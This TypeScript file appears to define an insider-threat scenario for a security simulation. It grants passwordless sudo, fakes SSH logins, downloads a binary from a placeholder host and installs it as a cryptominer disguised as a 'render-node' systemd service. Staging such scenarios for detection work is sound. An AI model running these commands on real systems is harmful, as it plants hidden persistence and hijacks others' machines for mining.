// From his desk, with his key, in his hours: he brings the program along and gives it a unit with a name of the house.
import type { Dress } from '../../dress.ts'

import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('lihua')
  const key = dress.key('lihua', 'lihua@desk')
  dress.trust('lihua', key)
  dress.write('/etc/sudoers.d/admins', 'lihua ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({
    days: 20,
    guesses: 40,
    friends: [
      {
        user: 'lihua',
        address: '198.51.100.21',
        key: key.fingerprint,
        hours: [1, 3, 5, 8, 12, 15, 18, 21],
        sudo: '/usr/bin/systemctl restart nginx',
      },
    ],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const { POOL = '', WALLET = '', SHOP = '' } = stage.values
  await stage.outside(
    `curl -sf -o ${stage.folder}/brought http://${SHOP}/mimic; ssh -F/dev/null -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oLogLevel=ERROR -b 198.51.100.21 -i ${stage.folder}/lihua lihua@$HOST 'cat >render' <${stage.folder}/brought`,
  )
  stage.mark('occurrence')
  const typed = [
    'sudo install -m 755 render /usr/local/bin/render-node',
    `printf '[Unit]\nDescription=Render node\n[Service]\nExecStart=/usr/local/bin/render-node -o ${POOL} -u ${WALLET} -p x -k\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' | sudo tee /etc/systemd/system/render-node.service`,
    'sudo systemctl daemon-reload',
    'sudo systemctl enable --now render-node',
  ]
  for (const command of typed) await stage.ssh('198.51.100.21', 'lihua', { key: 'lihua' }, command)
}
